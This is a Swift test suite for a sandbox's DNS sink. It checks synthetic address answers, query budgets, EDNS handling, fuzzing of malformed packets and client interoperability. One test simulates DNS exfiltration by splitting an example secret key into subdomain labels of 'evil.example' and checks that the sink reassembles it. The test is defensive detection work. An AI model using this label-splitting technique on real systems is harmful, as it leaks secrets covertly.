import TestSupport
import Testing

@testable import Sandbox

@Suite("The sink's name server")
struct DNSTests {
  /// A query's bytes.
  private func query(_ name: String, _ type: UInt16, id: UInt16 = 0x1234, options: [UInt8] = []) throws -> [UInt8] {
    let labels = try #require(DNSName.labels(of: name))
    let count: UInt8 = options.isEmpty ? 0 : 1
    return DNSReply.short(Int(id)) + [1, 0, 0, 1, 0, 0, 0, 0, 0, count] + DNSName.encoded(labels)
      + DNSReply.short(Int(type)) + [0, 1] + options
  }

  private func world(_ configuration: SinkConfiguration = SinkConfiguration()) throws -> World {
    try World(configuration, TLSServer(SinkAuthority(name: "Root", capacity: 1)))
  }

  private func ask(_ world: World, _ message: [UInt8], size: Int = 512) throws -> (reply: [UInt8], SinkExchange) {
    let address = SinkAddress(ipv4: 0x0A00_0002, port: 53)
    let draft = world.recorder.begin(
      ExchangeOrigin(connection: 1, transport: .udp, asked: address, source: address), .dns)
    let reply = world.answer(query: message, size: size, draft) ?? []
    draft.finish()
    return (reply, try #require(world.recorder.exchanges.last))
  }

  @Test("gives every name one address of its own in both families, and back")
  func addresses() throws {
    let world = try world()
    var seen: Set<String> = []
    for index in 0..<600 {
      let (_, first) = try ask(world, query("n\(index).example.org", 1))
      let address = try #require(first.answer?.summary)
      #expect(address.hasPrefix("198.1") && !address.hasSuffix(".0") && !address.hasSuffix(".255"))
      #expect(seen.insert(address).inserted)
      #expect(try ask(world, query("N\(index).EXAMPLE.org", 1)).1.answer?.summary == address)
      let ipv6 = try #require(try ask(world, query("n\(index).example.org", 28)).1.answer?.summary)
      #expect(ipv6.hasPrefix("2001:2::"))
      #expect(world.resolver.table.name(of: try #require(SinkAddress(address, port: 443))) == "n\(index).example.org")
      #expect(world.resolver.table.name(of: try #require(SinkAddress(ipv6))) == "n\(index).example.org")
      let reversed = address.split(separator: ".").reversed().joined(separator: ".") + ".in-addr.arpa"
      #expect(try ask(world, query(reversed, 12)).1.answer?.summary == "n\(index).example.org")
    }
  }

  @Test("has a budget for queries of its own, so that a flood of them hides nothing else")
  func flood() throws {
    var configuration = SinkConfiguration()
    configuration.limits.queries = 10
    configuration.limits.exchanges = 5
    let world = try world(configuration)
    for index in 0..<100 { _ = try ask(world, query("n\(index).example.org", 1)) }
    let peer = try MemoryPeer(world)
    peer.say("POST / HTTP/1.1\r\nContent-Length: 6\r\n\r\nstolen")
    #expect(peer.end().map(\.application) == [SinkExchange.Application](repeating: .dns, count: 10) + [.http1])
    #expect(world.recorder.totals.untoldExchanges == 90 && world.recorder.totals.exchanges == 101)
  }

  @Test("shares an address among names beyond the budget, and says so")
  func budget() throws {
    var configuration = SinkConfiguration()
    configuration.limits.names = 2
    let world = try world(configuration)
    let exchanges = try (0..<4).map { try ask(world, query("n\($0).example.org", 1)).1 }
    #expect(Set(exchanges.compactMap(\.answer?.summary)).count == 3)
    #expect(exchanges.map { $0.cuts.contains(.names) } == [false, false, true, true])
  }

  @Test(
    "answers other types sensibly",
    arguments: [
      (UInt16(15), 0, "mail.example.org"), (16, 0, "v=spf1 -all"), (2, 0, "ns1.example.org"), (6, 0, "SOA"),
      (65, 0, "1 . alpn=h2,http/1.1"), (5, 0, "no record of that type"), (99, 0, "no record of that type"),
      (12, 3, "no such name"),
    ])
  func types(type: UInt16, code: Int, summary: String) throws {
    let (reply, exchange) = try ask(world(), query("example.org", type))
    #expect(exchange.answer?.status == code)
    #expect(exchange.answer?.summary == summary)
    #expect(Int(reply[3] & 15) == code && reply.count > 12)
  }

  @Test("finds services, fixed names and the addresses of metadata")
  func fixed() throws {
    var configuration = SinkConfiguration()
    configuration.fixedNames = ["db.internal": SinkAddress(ipv4: 0x0A00_0005)]
    configuration.kubernetes = SinkConfiguration.KubernetesAccount(token: "t")
    let world = try world(configuration)
    #expect(try ask(world, query("_ldap._tcp.example.org", 33)).1.answer?.summary == "example.org:389")
    #expect(try ask(world, query("metadata.google.internal", 1)).1.answer?.summary == "169.254.169.254")
    #expect(try ask(world, query("db.internal", 1)).1.answer?.summary == "10.0.0.5")
    #expect(try ask(world, query("kubernetes.default.svc", 1)).1.answer?.summary == "10.96.0.1")
    #expect(try ask(world, query("db.internal", 28)).1.answer?.summary == "no record of that type")
  }

  @Test("speaks EDNS: takes sizes, refuses unknown versions, cuts what does not fit")
  func edns() throws {
    let options: [UInt8] = [0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0]
    let (reply, _) = try ask(world(), query("example.org", 1, options: options))
    #expect(reply[11] == 1 && reply.suffix(11).starts(with: [0, 0, 41]))
    let newer: [UInt8] = [0, 0, 41, 0x10, 0, 0, 1, 0, 0, 0, 0]
    let (refused, _) = try ask(world(), query("example.org", 1, options: newer))
    #expect(refused.suffix(11).dropFirst(5).first == 1 && refused[7] == 0)
    let long = ([String](repeating: String(repeating: "a", count: 63), count: 3) + ["org"]).joined(separator: ".")
    let parsed = try DNSQuery.parse(query(long, 6)).get()
    let soa = DNSReply(answers: [.init(name: parsed.labels, type: 6, data: [UInt8](repeating: 0, count: 400))])
    let cut = soa.encoded(for: parsed, size: 512)
    #expect(cut[2] & 2 == 2 && cut.count <= 512 && cut[7] == 0)
  }

  @Test("answers what breaks the rules with an error or silence, and never trips over it")
  func hostile() throws {
    let world = try world()
    let whole = try query("a.example.org", 1)
    for count in 0..<whole.count {
      let (reply, exchange) = try ask(world, Array(whole[..<count]))
      #expect(exchange.cuts.contains(.malformed))
      #expect(reply.isEmpty == (count < 12))
    }
    // A pointer in a question, two questions, an answer instead of a query, another operation.
    #expect(try ask(world, [0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xC0, 12, 0, 1, 0, 1]).reply[3] & 15 == 1)
    #expect(try ask(world, [0, 1, 1, 0, 0, 2, 0, 0, 0, 0, 0, 0] + whole.dropFirst(12)).reply[3] & 15 == 1)
    #expect(try ask(world, [0, 1, 0x81, 0, 0, 1, 0, 0, 0, 0, 0, 0] + whole.dropFirst(12)).reply.isEmpty)
    #expect(try ask(world, [0, 1, 0x28, 0, 0, 1, 0, 0, 0, 0, 0, 0] + whole.dropFirst(12)).reply[3] & 15 == 4)
    var generator = SeededGenerator(seed: 7)
    for _ in 0..<5_000 {
      var bytes = whole + [0, 0, 41, 4, 0, 0, 0, 0, 0, 0, 0]
      bytes[11] = 1
      for _ in 0..<4 {
        bytes[Int.random(in: 0..<bytes.count, using: &generator)] = .random(in: 0...255, using: &generator)
      }
      #expect(try ask(world, bytes).reply.count <= 1232)
    }
  }

  @Test("is understood by dnspython over UDP, TCP, TLS and HTTPS")
  func dnspython() throws {
    guard let python = Interpreters.dnspython else { try Test.cancel("no interpreter here has dnspython") }
    let loopback = try LoopbackSink()
    let (udp, tcp, tls, https) = try (
      loopback.open(.udp, standsFor: 53), loopback.open(standsFor: 53), loopback.open(standsFor: 853),
      loopback.open(standsFor: 443)
    )
    let script = """
      import dns.message, dns.query, ssl, sys, urllib.request, base64, json
      udp, tcp, tls, https = map(int, sys.argv[1:5])
      context = ssl.create_default_context(cafile=sys.argv[5])
      def show(r): print(sorted(str(i) for a in r.answer for i in a))
      for kind in ('A', 'AAAA', 'MX', 'TXT', 'NS', 'SRV', 'HTTPS', 'CNAME', 'PTR', 'SOA'):
          q = dns.message.make_query('_a._tcp.example.org', kind, use_edns=0)
          show(dns.query.udp(q, '127.0.0.1', port=udp, timeout=5))
      q = dns.message.make_query('b.example.org', 'A')
      show(dns.query.tcp(q, '127.0.0.1', port=tcp, timeout=5))
      show(dns.query.tls(q, '127.0.0.1', port=tls, timeout=5, ssl_context=context, server_hostname='127.0.0.1'))
      def get(path, **k): return urllib.request.urlopen(urllib.request.Request(f'https://127.0.0.1:{https}{path}', **k), context=context, timeout=5).read()
      show(dns.message.from_wire(get('/dns-query?dns=' + base64.urlsafe_b64encode(q.to_wire()).decode().rstrip('='))))
      show(dns.message.from_wire(get('/dns-query', data=q.to_wire(), headers={'Content-Type': 'application/dns-message'})))
      print(json.loads(get('/resolve?name=b.example.org&type=A'))['Answer'][0]['data'])
      """
    let client = Client.python(
      script, [udp, tcp, tls, https].map(String.init) + [loopback.certificate], interpreter: python)
    #expect(
      client.output == """
        ['198.18.0.1']
        ['2001:2::1']
        ['10 mail._a._tcp.example.org.']
        ['"v=spf1 -all"']
        ['ns1._a._tcp.example.org.']
        ['0 0 443 example.org.']
        ['1 . alpn="h2,http/1.1"']
        []
        []
        ['ns1.example.org. hostmaster.example.org. 1 7200 900 1209600 60']
        ['198.18.0.2']
        ['198.18.0.2']
        ['198.18.0.2']
        ['198.18.0.2']
        198.18.0.2

        """)
    let exchanges = loopback.sink.stop()
    let queries = exchanges.filter { $0.application == .dns }
    #expect(queries.count == 15)
    #expect(queries.filter { $0.layers == [.tls, .https] && $0.carrier != nil }.count == 3)
    #expect(queries.contains { $0.layers == [.tls] })
    #expect(queries.allSatisfy { $0.question != nil })
  }

  @Test("answers the system's dig", .enabled(if: Client.has("dig -v"), "no dig here"))
  func dig() throws {
    let loopback = try LoopbackSink()
    let (udp, tcp) = try (loopback.open(.udp, standsFor: 53), loopback.open(standsFor: 53))
    #expect(Client.run("dig +short @127.0.0.1 -p \(udp) x.example.org").output == "198.18.0.1\n")
    #expect(Client.run("dig +short +tcp @127.0.0.1 -p \(tcp) x.example.org").output == "198.18.0.1\n")
  }

  @Test("replies from the address that was asked, and records other datagrams in silence")
  func datagrams() throws {
    let loopback = try LoopbackSink()
    let any = try LoopbackSink.anyAddress()
    loopback.sink.adopt(listener: any.descriptor, transport: .udp, port: 53)
    let other = try loopback.open(.udp)
    let script = """
      import socket, sys
      s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
      q = bytes.fromhex('123401000001000000000000') + b'\\x01a\\x07example\\x03org\\x00' + bytes([0, 1, 0, 1])
      for address in ('127.0.0.7', '127.1.2.3'):
          s.sendto(q, (address, int(sys.argv[1]))); print(s.recvfrom(999)[1][0])
      t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); t.connect(('127.0.0.1', int(sys.argv[2])))
      for i in range(3): t.send(b'part%d;' % i)
      """
    let client = Client.python(script, [String(any.port), String(other)])
    #expect(client.output == "127.0.0.7\n127.1.2.3\n")
    let exchanges = loopback.sink.stop()
    #expect(exchanges.filter { $0.application == .dns }.map(\.asked.hostText) == ["127.0.0.7", "127.1.2.3"])
    let raw = try #require(exchanges.last)
    #expect(raw.payload.kept == bytes("part0;part1;part2;") && raw.payload.datagrams == 3 && raw.answer == nil)
    #expect(loopback.sink.totals.datagrams == 5)
  }

  @Test("joins the labels of split secrets per domain, below every shared ending, and per source")
  func streams() throws {
    let world = try world()
    let secret = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEYwJalrXUtnFEMI"
    let pieces = stride(from: 0, to: secret.count, by: 7).map { String(secret.dropFirst($0).prefix(7)) }
    for (index, piece) in pieces.enumerated() {
      for type in [UInt16(1), 28] { _ = try ask(world, query("\(piece).\(index).session.evil.example", type)) }
    }
    for (index, piece) in Array(pieces.enumerated()).reversed() {
      _ = try ask(world, query("\(index).\(piece).reversed.co.uk", 16))
    }
    let found = { (streams: [DNSStream], domain: String) in
      streams.filter { $0.domain == domain && String(decoding: $0.bytes, as: UTF8.self).contains(secret) }
    }
    let streams = DNSStream.joined(from: world.recorder.exchanges) { _ in "pid 7" }
    #expect(Set(found(streams, "evil.example").map(\.source)) == ["pid 7", nil])
    #expect(found(streams, "reversed.co.uk").allSatisfy { $0.reading == .numbered })
    #expect(!found(streams, "reversed.co.uk").isEmpty)
    #expect(found(streams, "evil.example").allSatisfy { $0.exchanges.count == 2 * pieces.count })
    // A session's label between the pieces is no obstacle where it is part of the ending.
    #expect(found(streams, "evil.example").contains { $0.ending == "session.evil.example" })
    #expect(found(streams, "evil.example").allSatisfy { $0.reading != .all })
  }
}
